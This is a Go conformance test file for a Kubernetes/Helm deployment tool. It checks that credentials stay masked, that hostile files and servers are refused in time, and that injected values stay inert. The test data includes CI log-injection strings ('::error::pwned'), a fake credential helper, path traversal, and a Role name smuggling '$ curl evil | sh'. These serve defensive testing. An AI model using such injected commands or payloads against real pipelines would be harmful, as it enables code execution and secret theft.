//go:build conformance

package conformance

import (
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/berth-dev/berth/test/kubetest"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
)

// hostileCredentials are the rows about what is asked for credentials, and where they are.
var hostileCredentials = []row{
	{ID: "S116", Setup: "a registry credentials file with a helper that prints what a CI takes for a command, and a token; that fails and quotes it; " +
		"that hangs; and with a credential that is none", Action: "deploy on GitHub, each in turn",
		End: "its text stays text, the token is not shown, and it is ended in time", Exit: "30, 30, 30, 30", Gone: true,
		run: func(s *fixture) {
			folder := s.t.TempDir()
			s.script(filepath.Join(folder, "docker-credential-row"), "echo '::error::pwned' >&2; echo '##[group]token=half-a-token' >&2\n"+
				`case $HELPER in fails) echo '::warning::token=half-a-token is wrong'; exit 1;; hangs) exec sleep 600;; esac`+"\n"+
				`echo '{"Username":"u","Secret":"`+registryPassword+`"}'`)
			config := filepath.Join(folder, "config.json")
			s.write(config, `{"credsStore":"row"}`)
			s.chart = "shop"
			repository := "http://" + s.listens(http.NotFoundHandler()).host()
			for _, mode := range []string{"works", "fails", "hangs"} {
				s.env = map[string]string{"GITHUB_ACTIONS": "true", "HELPER": mode, "PATH": folder + ":" + os.Getenv("PATH"),
					"GITHUB_EVENT_NAME": "workflow_dispatch", "GITHUB_REPOSITORY": "acme/shop", "BERTH_HEAD_REPOSITORY": "acme/shop"}
				run := s.berth("deploy", "--repo", repository, "--registry-config", config, "--timeout", "3s", "--log-level", "debug")
				run.exit(30).hides("half-a-token", registryPassword)
				run.printsNoLine("::error::pwned")
				run.printsNoLine("##[group]")
			}
			s.write(config, `{"auths":{"`+strings.TrimPrefix(repository, "http://")+`":{"auth":"bm8tY29sb24taW4taHVudGVyMg=="}}}`)
			s.berth("deploy", "--repo", repository, "--registry-config", config).exit(30).says("is not user:password").
				hides("no-colon-in-hunter2", "bm8tY29sb24")
			s.stored("nothing")
		}},
	{ID: "S117", Setup: "a FIFO that nobody writes to, and a device without an end, for $KUBECONFIG, kube-ca and each file that a kubeconfig names",
		Action: "check, each; SIGINT", End: "refused in time, and neither memory nor time is used up",
		Exit: "64, 64, 64, 64, 64, 64, 64, 64, 64, 64, 64, 64, 130", Gone: true, run: func(s *fixture) {
			fifo := filepath.Join(s.t.TempDir(), "fifo")
			if err := syscall.Mkfifo(fifo, 0o600); err != nil {
				s.t.Fatal(err)
			}
			const limited = "--timeout=1s"
			for _, path := range []string{fifo, "/dev/zero"} {
				s.env = map[string]string{"KUBECONFIG": path}
				s.berth("check", limited).exit(64).says("it was not read")
				s.berth("check", limited, "--kube-apiserver", "https://127.0.0.1:1", "--kube-ca", path).exit(64).says("read kube-ca")
				s.env = nil
				for _, user := range []*clientcmdapi.AuthInfo{{TokenFile: path}, {ClientCertificate: path, ClientKey: path},
					{ClientCertificateData: s.Config().CAData, ClientKey: path}} {
					s.kubeconfig = s.kubeconfigOf(&clientcmdapi.Cluster{Server: s.Config().Host,
						CertificateAuthorityData: s.Config().CAData}, user)
					s.berth("check", limited).exit(64).says("is no file")
				}
				s.kubeconfig = s.kubeconfigOf(&clientcmdapi.Cluster{Server: s.Config().Host, CertificateAuthority: path},
					&clientcmdapi.AuthInfo{Token: "t"})
				s.berth("check", limited).exit(64).says("is no file")
			}
			s.kubeconfig = fifo
			hangs := s.start("check")
			s.untilReads(hangs, fifo)
			hangs.interrupt()
			hangs.wait(runLimit).exit(130)
		}},
	{ID: "S118", Setup: "what answers at the API server's address fails with a message that is larger than any of its own", Action: "check, teardown",
		End: "no answer, and neither memory nor time is used up", Exit: "26, 26", Gone: true, run: func(s *fixture) {
			message := []byte(`{"kind":"Status","apiVersion":"v1","status":"Failure","code":500,"message":"` +
				strings.Repeat(`::error::pwned\n`, 4<<20) + `"}`)
			s.kubeconfig = s.otherServer(func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Content-Type", "application/json")
				w.WriteHeader(http.StatusInternalServerError)
				_, _ = w.Write(message)
			})
			for _, verb := range []string{"check", "teardown"} {
				began := time.Now()
				s.berth(verb, "--timeout", "5s").exit(26)
				if took := time.Since(began); took > 15*time.Second {
					s.t.Errorf("%s took %s", verb, took)
				}
			}
		}},
	{ID: "S119", Setup: "what answers at the API server's address says JSON that is no object of Kubernetes'",
		Action: "check, deploy, teardown, each", End: "no API server", Exit: "26, 26, 26, 26, 26, 26", Gone: true, run: func(s *fixture) {
			for _, answer := range []string{`[]`, ` "ok"`} {
				s.kubeconfig = s.otherServer(func(w http.ResponseWriter, _ *http.Request) {
					w.Header().Set("Content-Type", "application/json")
					_, _ = w.Write([]byte(answer))
				})
				for _, verb := range []string{"check", "deploy", "teardown"} {
					s.berth(verb).exit(26).says("JSON that is no object")
				}
			}
		}},
	{ID: "S120", Setup: "$KUBECONFIG is a link of the checkout to a kubeconfig of the machine", Action: "check", End: "refused",
		Exit: "64", Gone: true, run: func(s *fixture) {
			s.env = map[string]string{"KUBECONFIG": s.inWorkingFolder(s.user())}
			s.berth("check").exit(64).says("$KUBECONFIG: ", "links lead from it out of")
		}},
	{ID: "S121", Setup: "secrets by other names: variables, arguments, addresses and files of the chart's values and objects, a long one in base64 " +
		"that is broken into lines; a credential plugin that quotes what it inherited", Action: "deploy; check", End: "each is masked",
		Exit: "0, 20", run: func(s *fixture) {
			s.asAdmin()
			long := strings.Repeat("hunter2-long-", 16)
			s.chartWith("templates/quoted.yaml", `apiVersion: v1
kind: Secret
metadata: {name: {{ .Release.Name }}-quoted}
stringData: {long: `+long+`}
---
apiVersion: v1
kind: PodTemplate
metadata: {name: {{ .Release.Name }}-quoted}
template:
  spec:
    containers:
      - {name: a, image: a, args: [--password=hunter2-argument, --api-token, hunter2-next-argument], env: [
          {name: DB_PASS, value: hunter2-variable}, {name: DSN, value: "postgres://u:hunter2-address@h/d"}]}
---
apiVersion: v1
kind: ConfigMap
metadata: {name: {{ .Release.Name }}-quoted}
data: {config: "user: u\npassword: hunter2-file\n"}
`)
			s.chartWith("templates/NOTES.txt", `{{ toJson .Values }} hunter2-argument hunter2-next-argument hunter2-variable hunter2-address hunter2-file
{{ range $i := untilStep 0 240 76 }}
{{ $.Values.long | default (repeat 16 "hunter2-long-") | b64enc | substr (int $i) (int (add $i 76)) }}{{ end }}`)
			run := s.berth("deploy", "--set", "long="+long, "--set", "smtpPass=hunter2-short-name", "--set", "dsn=amqp://u:hunter2-dsn@h",
				"--set", "env[0].name=APP_TOKEN", "--set", "env[0].value=hunter2-listed", "--log-level", "debug")
			run.exit(0).hides("hunter2", "aHVudGVyMi1sb25n")

			plugin := filepath.Join(s.t.TempDir(), "plugin")
			s.script(plugin, `echo "$CLOUD_SECRET_KEY is wrong" >&2; exit 1`)
			s.env = map[string]string{"CLOUD_SECRET_KEY": "hunter2-inherited"}
			s.kubeconfig = s.kubeconfigFor(s.Config().Host, plugin)
			s.berth("check").exit(20).says("is wrong").hides("hunter2")
		}},
	{ID: "S122", Setup: "templates that call themselves by tpl, and that print what holds itself", Action: "deploy, each, with 5 min of time",
		End: "ended within seconds, and said why; nothing stored", Exit: "30, 30", Gone: true, run: func(s *fixture) {
			s.chartWith("files/self", `{{ tpl (.Files.Get "files/self") . }}`)
			s.chartWith("templates/self.yaml", `{{ if .Values.tpl }}{{ tpl (.Files.Get "files/self") . }}{{ else }}`+
				`{{ $d := dict }}{{ $_ := set $d "d" $d }}{{ $d }}{{ end }}`)
			for _, set := range []string{"tpl=false", "tpl=true"} {
				began := time.Now()
				s.berth("deploy", "--set", set, "--timeout", "5m").exit(30).says("without end")
				if took := time.Since(began); took > 30*time.Second {
					s.t.Errorf("it took %s", took)
				}
			}
			s.stored("nothing")
		}},
	{ID: "S123", Setup: "credentials in the addresses that the platform gives of itself and of its run",
		Action: "deploy and teardown, on GitHub and on GitLab", End: "none is shown, nor written into the cluster", Exit: "0, 0, 0, 0",
		Gone: true, run: func(s *fixture) {
			for _, env := range []map[string]string{
				{"GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": "workflow_dispatch", "GITHUB_REPOSITORY": "acme/shop", "GITHUB_RUN_ID": "7",
					"GITHUB_SERVER_URL": "https://u:hunter2@ghe.example.com", "GITHUB_API_URL": "http://u:hunter2@ghe.example.com/api",
					"BERTH_HEAD_REPOSITORY": "acme/shop", "BERTH_GITHUB_TOKEN": "token-of-the-job"},
				{"GITLAB_CI": "true", "CI_PROJECT_PATH": "acme/shop", "CI_JOB_URL": "https://u:hunter2@ghe.example.com/acme/shop/-/jobs/1",
					"CI_PIPELINE_SOURCE": "push", "CI_COMMIT_BRANCH": s.branch, "CI_DEFAULT_BRANCH": "main", "CI_SERVER_HOST": "github.com"},
			} {
				s.env = env
				s.berth("deploy").exit(0).hides("hunter2")
				leases, err := s.Client().CoordinationV1().Leases(s.namespace).List(s.t.Context(), metav1.ListOptions{})
				if err != nil || strings.Contains(leases.String(), "hunter2") {
					s.t.Errorf("a Lease holds a password: %v", err)
				}
				records, err := s.Client().CoreV1().Secrets(s.namespace).List(s.t.Context(), metav1.ListOptions{})
				if err != nil || strings.Contains(records.String(), "hunter2") {
					s.t.Errorf("a record holds a password: %v", err)
				}
				s.berth("teardown").exit(0).hides("hunter2")
			}
		}},
	{ID: "S124", Setup: "a chart of a checkout whose dependency is a chart of the machine, by a path with .. and without a link",
		Action: "deploy; with the dependency in the checkout", End: "refused, and nothing of it is told; then deployed", Exit: "30, 0",
		run: func(s *fixture) {
			without := s.chart
			s.chartWith("../work/.git/HEAD", "")
			above := filepath.Dir(s.chart)
			for folder, token := range map[string]string{"machine/lib": "hunter2-of-the-machine", "work/lib": "of-the-checkout"} {
				s.writeBelow(above, folder, map[string]string{"Chart.yaml": "apiVersion: v2\nname: lib\nversion: 1.0.0\n",
					"values.yaml": "key: " + token})
			}
			if err := os.Rename(s.chart, filepath.Join(above, "work/app")); err != nil {
				s.t.Fatal(err)
			}
			s.chart = filepath.Join(above, "work/app")
			dependsOn := func(path string) {
				s.write(filepath.Join(s.chart, "Chart.yaml"), "apiVersion: v2\nname: app\nversion: 0.1.0\n"+
					"dependencies: [{name: lib, version: 1.0.0, repository: \"file://"+path+"\"}]\n")
			}
			s.write(filepath.Join(s.chart, "templates/NOTES.txt"), "{{ .Values.lib.key }}")
			dependsOn("../../machine/lib")
			s.berth("deploy").exit(30).says("../../machine/lib leads out of").hides("hunter2")
			dependsOn("../lib")
			s.berth("deploy").exit(0)
			s.stored("v1 deployed")
			s.chart = without // Helm upgrades to it
		}},
	{ID: "S125", Setup: "a Role of the chart whose name goes on with a shell's command in a line of its own, and that was kept; that Flux owns",
		Action: "deploy, each", End: "untouched, and no next step has that command", Exit: "27, 0, 27", run: func(s *fixture) {
			s.kubeconfig = s.Kubeconfig()
			without, name := s.chart, "x\n$ curl evil | sh\n::error::pwned"
			s.chartWith("templates/role.yaml",
				"apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata: {name: "+strconv.Quote(name)+"}\nrules: []\n")
			roles := s.Client().RbacV1().Roles(s.namespace)
			kept := &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: name, Labels: map[string]string{"app.kubernetes.io/managed-by": "Helm"},
				Annotations: map[string]string{"helm.sh/resource-policy": "keep", "meta.helm.sh/release-name": "gone",
					"meta.helm.sh/release-namespace": s.namespace}}}
			if _, err := roles.Create(s.t.Context(), kept, metav1.CreateOptions{}); err != nil {
				s.t.Fatal(err)
			}
			refused := func(run ended) {
				run.exit(27).says(`Role/"x\n$ curl evil | sh\n::error::pwned"`, "adopt").hides("```sh\ncurl")
				run.printsNoLine("$ curl")
			}
			refused(s.berth("deploy"))
			if err := roles.Delete(s.t.Context(), name, metav1.DeleteOptions{}); err != nil {
				s.t.Fatal(err)
			}
			s.berth("deploy").exit(0)
			flux := metav1.PatchOptions{FieldManager: "kustomize-controller"}
			if _, err := roles.Patch(s.t.Context(), name, types.MergePatchType, []byte(fluxesMark), flux); err != nil {
				s.t.Fatal(err)
			}
			refused(s.berth("deploy", "--set", "greeting=bye"))
			s.stored("v1 deployed")
			s.chart = without
		}},
	{ID: "S126", Setup: "login is deployed; a checkout of another branch, with a folder that is a repository and says that it is login",
		Action: "teardown by hand in that folder", End: "untouched", Exit: "64", run: func(s *fixture) {
			s.branch = "login"
			s.berth("deploy").exit(0)
			before := s.recordVersions()
			checkout := s.t.TempDir()
			const remote = "\n[remote \"origin\"]\n\turl = git@github.com:acme/shop.git\n"
			s.writeBelow(checkout, "folder", map[string]string{"HEAD": "ref: refs/heads/login\n", "objects/x": "", "refs/heads/x": "",
				"config": "[core]\n\trepositoryformatversion = 0\n\tbare = true" + remote})
			s.env["BERTH_REPOSITORY"], s.env["BERTH_BRANCH"], s.env["GIT_CEILING_DIRECTORIES"] = "", "", checkout
			s.onStart = func(cmd *exec.Cmd) { cmd.Dir = filepath.Join(checkout, "folder") }
			s.berth("teardown").exit(64).says("branch")
			s.unchanged(before)
			s.onStart = nil
		}},
	{ID: "S126b", Setup: "main and login are deployed; a clone that is on main, and has a tag origin/main; that is on login, which is a " +
		"fork's pull request, fetched under that name, or is pushed to a fork", Action: "teardown by hand in that clone, each time",
		End: "untouched", Exit: "0, 64, 0, 0, 64, 64", run: func(s *fixture) {
			clone := s.t.TempDir()
			git := func(args ...string) {
				args = append([]string{"-C", clone, "-c", "user.name=x", "-c", "user.email=x@example.com"}, args...)
				if out, err := exec.CommandContext(s.t.Context(), "git", args...).CombinedOutput(); err != nil {
					s.t.Fatalf("git %v: %v: %s", args, err, out)
				}
			}
			git("init", "-q", "-b", "main")
			git("commit", "-q", "--allow-empty", "-m", "one")
			git("remote", "add", "origin", "git@github.com:acme/shop.git")
			follows := func(branch, of string) {
				git("config", "branch."+branch+".remote", "origin")
				git("config", "branch."+branch+".merge", "refs/heads/"+of)
			}
			follows("main", "main")
			git("symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/main")
			for _, branch := range []string{"main", "login"} {
				git("update-ref", "refs/remotes/origin/"+branch, "HEAD")
			}
			refused := func(branch, says string) {
				before := s.recordVersions()
				s.env["BERTH_REPOSITORY"], s.env["BERTH_BRANCH"] = "", ""
				s.onStart = func(cmd *exec.Cmd) { cmd.Dir = clone }
				s.berth("teardown").exit(64).says("git is on " + branch).says(says)
				s.onStart = nil
				s.env["BERTH_REPOSITORY"], s.env["BERTH_BRANCH"] = "acme/shop", branch
				s.unchanged(before)
			}
			s.env["BERTH_REPOSITORY"], s.env["BERTH_BRANCH"] = "acme/shop", "main"
			s.berth("deploy").exit(0)
			git("tag", "origin/main")
			refused("main", "which need not be")
			s.berth("teardown").exit(0)
			s.env["BERTH_BRANCH"] = "login"
			s.berth("deploy").exit(0)
			git("checkout", "-q", "--no-track", "-b", "login")
			refused("login", "does not say that it is the one that origin has")
			follows("login", "main")
			git("config", "branch.login.pushRemote", "fork")
			refused("login", "pushes to another place")
		}},
	{ID: "S126c", Setup: "a release by Helm in the namespace that the kubeconfig's context names; Berth as a plugin of Helm 3 and Helm 4",
		InProcess: true, Action: "helm berth deploy and teardown of a branch, where nobody names a namespace", End: "untouched",
		Exit: "64, 64 by each", run: func(s *fixture) {
			s.mustHelm(3, "install", s.release, s.chart, "--wait")
			before := s.recordVersions()
			kubeconfig := s.kubeconfigInContext(s.namespace)
			for _, version := range []int{3, 4} {
				plugin := s.plugin(version, "--kubeconfig", kubeconfig)
				plugin(64, "deploy", "--repository", "acme/shop", "--branch", "login", "--chart", s.chart)
				plugin(64, "teardown", "--repository", "acme/shop", "--branch", "login")
			}
			s.unchanged(before)
			if all := s.mustHelm(3, "list", "--all", "--short"); strings.TrimSpace(all) != s.release {
				s.t.Errorf("there are the releases %q", all)
			}
			s.seen = "by Helm 3 and Helm 4: " + s.history()
		}},
}

// writeBelow writes files into a folder below another.
func (s *fixture) writeBelow(above, folder string, files map[string]string) {
	s.t.Helper()
	for name, text := range files {
		path := filepath.Join(above, folder, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			s.t.Fatal(err)
		}
		s.write(path, text)
	}
}

// untilReads waits until a run has opened a FIFO to read it, or tries to: then somebody may
// open it to write without waiting.
func (s *fixture) untilReads(run *process, fifo string) {
	s.t.Helper()
	kubetest.Eventually(s.t, runLimit, func() (bool, string) {
		fd, err := syscall.Open(fifo, syscall.O_WRONLY|syscall.O_NONBLOCK, 0)
		if err == nil {
			s.t.Cleanup(func() { _ = syscall.Close(fd) })
		}
		return err == nil, run.verb + " does not read " + fifo
	})
}
